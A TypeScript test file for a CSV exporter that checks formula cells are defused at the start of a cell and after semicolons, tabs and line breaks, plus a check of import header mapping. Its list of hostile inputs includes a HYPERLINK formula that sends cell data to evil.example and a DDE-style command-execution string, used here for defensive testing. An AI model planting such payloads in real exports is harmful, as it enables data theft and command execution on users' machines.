/**
 * Formula cells in CSV exports: defused at the start of a cell, and after every `;`, tab or line
 * break inside it, since Excel with `;` as the list separator splits a comma CSV there.
 */
import assert from "node:assert/strict";
import { csvLine, mapHeaders } from "./csv.ts";
import type { FieldDef } from "./fields.ts";
import { suppliers } from "../catalog.ts";

/** The cells Excel sees when its list separator is `;`: quotes only open a line's first field. */
function semicolonCells(text: string): string[] {
  return text.split(/\r\n|\r|\n/).flatMap((line) => line.split(";"));
}

const HOSTILE = [
  "Acme;=1+1",
  'Acme; =HYPERLINK("http://evil.example/?"&A1;"open")',
  "Acme;+cmd|' /C calc'!A0",
  "Acme;-2+3;@SUM(A1:A9)",
  "Acme\t=1+1",
  "memo\n=1+1",
  "memo\r\n@SUM(A1)",
  "=1+1;=2+2",
];

Deno.test("no cell of a semicolon reading of the export starts with a formula character", () => {
  for (const value of HOSTILE) {
    const text = csvLine(["01abc", value, "tail"]);
    for (const cell of semicolonCells(text)) {
      assert.doesNotMatch(cell.trimStart(), /^[=+\-@]/, `${JSON.stringify(value)} -> ${text}`);
    }
    // The comma reading keeps the whole value in one quoted cell.
    assert.match(text, /^01abc,"/);
  }
});

Deno.test("leading formula characters are defused, numbers and plain text are kept", () => {
  assert.equal(csvLine(["=1+1"]), "'=1+1\r\n");
  assert.equal(csvLine(["-12.5", "3"]), "-12.5,3\r\n");
  assert.equal(csvLine(["Range 2;-5"]), '"Range 2;-5"\r\n');
  assert.equal(csvLine(["Acme;=1+1"]), `"Acme;'=1+1"\r\n`);
  assert.equal(csvLine(["a,b", 'say "hi"']), '"a,b","say ""hi"""\r\n');
  assert.equal(csvLine(["Beef; pork"]), '"Beef; pork"\r\n');
});

Deno.test("CSV import headers: labels in any script keep their own column; a custom field never takes a built-in column", () => {
  const custom = (key: string, label: string): FieldDef => ({
    name: key,
    label,
    kind: "text",
    custom: true,
  } as FieldDef);
  const def = {
    ...suppliers,
    fields: [
      ...suppliers.fields,
      custom("ru", "Когда"),
      custom("ar", "عدد"),
      custom("alias", "Name"),
      custom("town", "City"),
    ],
  };
  const { fields, unknown } = mapHeaders(def, ["Name", "Когда", "عدد", "City", "Town", "?!"]);
  assert.deepEqual(fields.map((f) => f?.name ?? null), ["name", "ru", "ar", "city", "town", null]);
  assert.deepEqual(unknown, ["?!"]);
});
